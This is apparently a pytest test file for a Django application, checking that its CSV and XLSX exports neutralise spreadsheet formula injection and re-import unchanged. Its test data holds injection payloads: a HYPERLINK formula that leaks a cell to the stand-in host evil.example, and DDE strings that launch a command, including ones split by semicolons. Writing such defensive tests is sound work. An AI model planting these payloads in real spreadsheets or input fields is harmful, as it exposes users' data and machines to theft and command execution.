"""Formula injection through exports (issue 9, item 4): a value entered as ``=HYPERLINK(…)``,
``+cmd|…``, ``@SUM(…)`` or ``-2+3+cmd…`` is stored as entered, and every CSV or XLSX export
writes it so that a spreadsheet program shows it as text: a leading quote in CSV (OWASP), a
text cell marked with Excel's quote prefix in XLSX, never a formula. An export imports back
unchanged. Every export holds by construction: no module but ``core/tables.py`` writes CSV or
XLSX, and every route named after an export is tested here."""

import ast
import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from openpyxl import load_workbook

import secretariat
from secretariat.core.tables import formula_like, neutralise, unquote
from secretariat.core.tokens import token_create
from secretariat.network import exchange
from secretariat.network.models import Partner, Person
from secretariat.translation.models import Concept, Term
from tests import factories

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",  # leading white space, trimmed by some programs
    "\uff1d1+1",  # full-width equals sign
]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.mark.parametrize("value", HOSTILE)
def test_every_formula_start_is_neutralised_and_comes_back(value: str) -> None:
    assert formula_like(value)
    if value[:1] in "\t\r":  # a cell start too, for a program splitting on it
        assert neutralise(value) == "'" + value[0] + "'" + value[1:]
    else:
        assert neutralise(value) == "'" + value
    assert unquote(neutralise(value)) == value


@pytest.mark.parametrize(
    "value", ["Metz", "", "'quoted", "''=already", "a=b", "5-3", "e-mail@x.example"]
)
def test_other_texts_come_back_as_they_were(value: str) -> None:
    assert unquote(neutralise(value)) == value
    assert neutralise(-5) == -5  # numbers stay numbers


def _csv_cells(response: Any) -> list[list[str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _assert_csv_neutralised(response: Any, values: list[str]) -> None:
    cells = [c for row in _csv_cells(response) for c in row]
    for value in values:
        assert "'" + value in cells, value
    assert not [c for c in cells if formula_like(c)]


def _assert_xlsx_neutralised(response: Any, values: list[str]) -> None:
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    for value in values:
        found = [c for c in cells if c.value == value]
        assert found, value
        assert all(c.data_type == "s" and c.quotePrefix for c in found), value
    # A formula-like text is never left without the quote prefix.
    assert not [
        c.coordinate
        for c in cells
        if isinstance(c.value, str) and formula_like(c.value) and not c.quotePrefix
    ]


@pytest.fixture
def hostile_network(org: Any) -> tuple[Partner, Person]:
    partner = factories.partner(org, name={"fr": HOSTILE[0], "de": HOSTILE[7]})
    person = factories.person(
        org,
        given_name=HOSTILE[1],
        family_name=HOSTILE[2],
        phones=["+41 22 555 01 01"],
        tags=[HOSTILE[3]],
    )
    return partner, person


def test_network_exports_neutralise_formulas_and_keep_the_records(
    client: Any, org: Any, hostile_network: tuple[Partner, Person]
) -> None:
    partner, person = hostile_network
    client.force_login(factories.member_of(org, "admin"))
    partners = [HOSTILE[0], HOSTILE[7]]
    people = [HOSTILE[1], HOSTILE[2], HOSTILE[3], "+41 22 555 01 01"]
    for kind, values in (("partners", partners), ("people", people)):
        csv_response = client.get(reverse("export", args=[org.slug, kind, "csv"]))
        _assert_csv_neutralised(csv_response, values)
        xlsx_response = client.get(reverse("export", args=[org.slug, kind, "xlsx"]))
        _assert_xlsx_neutralised(xlsx_response, values)
        # Each export imports back into the same records, changing nothing.
        run = exchange.partners_import if kind == "partners" else exchange.people_import
        for response, name in ((csv_response, "back.csv"), (xlsx_response, "back.xlsx")):
            report = run(organisation=org, file=io.BytesIO(response.content), name=name, by=None)
            assert report.ok, (kind, name, report.errors)
            assert (report.created, report.updated, report.unchanged) == (0, 0, 1), name
    partner.refresh_from_db()
    person.refresh_from_db()
    assert partner.name == {"fr": HOSTILE[0], "de": HOSTILE[7]}
    assert (person.given_name, person.family_name) == (HOSTILE[1], HOSTILE[2])
    assert person.phones == ["+41 22 555 01 01"]
    assert [t.name for t in person.tags.all()] == [HOSTILE[3]]


@pytest.fixture
def hostile_glossary(org: Any) -> Concept:
    concept = Concept.objects.create(organisation=org, note=HOSTILE[2])
    Term.objects.create(concept=concept, language="fr", text=HOSTILE[0], status="preferred")
    Term.objects.create(concept=concept, language="de", text=HOSTILE[3], status="preferred")
    return concept


def test_glossary_exports_neutralise_formulas_on_the_page_and_in_the_api(
    client: Any, org: Any, hostile_glossary: Concept
) -> None:
    user = factories.member_of(org, "admin")
    values = [HOSTILE[0], HOSTILE[3], HOSTILE[2]]
    client.force_login(user)
    _assert_csv_neutralised(
        client.get(reverse("glossary", args=[org.slug]) + "?export=csv"), values
    )
    auth = {"HTTP_AUTHORIZATION": f"Bearer {token_create(user=user, name='t')[1]}"}
    api = client.get(
        f"/api/v1/organisations/{org.slug}/translation/glossary/export?format=csv", **auth
    )
    _assert_csv_neutralised(api, values)
    assert {t.text for t in Term.objects.filter(concept=hostile_glossary)} == {
        HOSTILE[0],
        HOSTILE[3],
    }
    hostile_glossary.refresh_from_db()
    assert hostile_glossary.note == HOSTILE[2]


def test_the_words_export_has_no_formula(client: Any, org: Any) -> None:
    """Its cells are months, language codes and numbers: nothing a user typed, but it goes
    through the same writers, and its numbers stay numbers."""
    staff = factories.member_of(org, "staff")
    partner = factories.partner(org, name={"fr": "Ville"})
    from secretariat.network import services as network

    network.partner_update(partner=partner, by=staff, name={"de": "Stadt"})
    client.force_login(staff)
    url = reverse("translated_words", args=[org.slug])
    assert [
        c for row in _csv_cells(client.get(url + "?format=csv")) for c in row if formula_like(c)
    ] == []
    response = client.get(url + "?format=xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    rows = list(sheet.iter_rows())
    assert all(c.data_type != "f" for row in rows for c in row)
    assert rows[1][-1].data_type == "n"


# By construction --------------------------------------------------------------------------------


def _writers(path: Path) -> list[str]:
    """The CSV and XLSX writers used in a module: csv.writer, csv.DictWriter, openpyxl."""
    found = []
    for node in ast.walk(ast.parse(path.read_text(), str(path))):
        if isinstance(node, ast.Attribute) and isinstance(node.value, ast.Name):
            if node.value.id == "csv" and node.attr in ("writer", "DictWriter"):
                found.append(f"csv.{node.attr}")
        elif isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            found.append(f"from {node.module} import …")
        elif isinstance(node, ast.Import) and any(
            a.name.startswith("openpyxl") for a in node.names
        ):
            found.append("import openpyxl")
    return found


def test_no_module_but_core_tables_writes_csv_or_xlsx() -> None:
    """Every export is neutralised because none can be written elsewhere than in
    ``write_csv`` and ``write_xlsx``."""
    root = Path(secretariat.__file__).parent
    tables = root / "core" / "tables.py"
    assert _writers(tables)  # the check sees what it looks for
    elsewhere = {
        str(path.relative_to(root)): found
        for path in root.rglob("*.py")
        if path != tables and (found := _writers(path))
    }
    assert elsewhere == {}


# The export routes this file tests, by URL name (web) or path (API). Any route whose name or
# path says “export” must be here: a new export fails this test until it is tested above.
TESTED_WEB = {"export"}  # network: partners and people, CSV and XLSX
TESTED_API = {
    "/api/v1/organisations/{slug}/translation/glossary/export",  # CSV (or TBX)
    "/api/v1/organisations/{slug}/translation/memory/export",  # TMX only: no table
}


def _patterns(resolver: URLResolver, prefix: str = "") -> list[tuple[str, str]]:
    found = []
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            found += _patterns(entry, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern):
            found.append((prefix + str(entry.pattern), entry.name or ""))
    return found


def test_every_export_route_is_tested_here(client: Any, db: Any) -> None:
    web = {
        name
        for route, name in _patterns(get_resolver())
        if ("export" in route or "export" in name) and not route.startswith("api/")
    }
    assert web == TESTED_WEB
    schema = client.get("/api/v1/openapi.json").json()
    assert {p for p in schema["paths"] if "export" in p} == TESTED_API


# A formula after a semicolon: French, German, Dutch and Belgian Excel split a CSV file on
# semicolons, whatever quotes the file puts around a field that is not the first of its line.

SPLIT = [
    "Evil;=1+1",
    "Evil;=cmd|' /C calc'!A0;x",
    "Evil\t@SUM(1+9)",
    'Evil; "=1+1',
    "Evil\n-2+3+cmd|' /C calc'!A0",
    "Evil;'=1+1",  # a quote typed by someone, kept
]


@pytest.mark.parametrize("value", SPLIT)
def test_a_formula_after_a_separator_is_neutralised_and_comes_back(value: str) -> None:
    assert unquote(neutralise(value)) == value


def test_a_csv_export_read_with_semicolons_has_no_formula(client: Any, org: Any) -> None:
    partner = factories.partner(org, name={"fr": "Metz", "de": SPLIT[0]})
    person = factories.person(org, given_name=SPLIT[1], family_name=SPLIT[3], tags=[SPLIT[2]])
    client.force_login(factories.member_of(org, "admin"))
    for kind, run in (("partners", exchange.partners_import), ("people", exchange.people_import)):
        response = client.get(reverse("export", args=[org.slug, kind, "csv"]))
        assert response.status_code == 200
        text = response.content.decode("utf-8-sig")
        for delimiter in (";", "\t"):  # as Excel reads it where the list separator is one
            cells = [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]
            assert not [c for c in cells if c.lstrip(' "')[:1] in "=+-@"], (kind, delimiter)
        report = run(organisation=org, file=io.BytesIO(response.content), name="b.csv", by=None)
        assert report.ok, report.errors
        assert (report.created, report.updated, report.unchanged) == (0, 0, 1), kind
    partner.refresh_from_db()
    person.refresh_from_db()
    assert partner.name == {"fr": "Metz", "de": SPLIT[0]}
    assert (person.given_name, person.family_name) == (SPLIT[1], SPLIT[3])
    assert [t.name for t in person.tags.all()] == [SPLIT[2]]
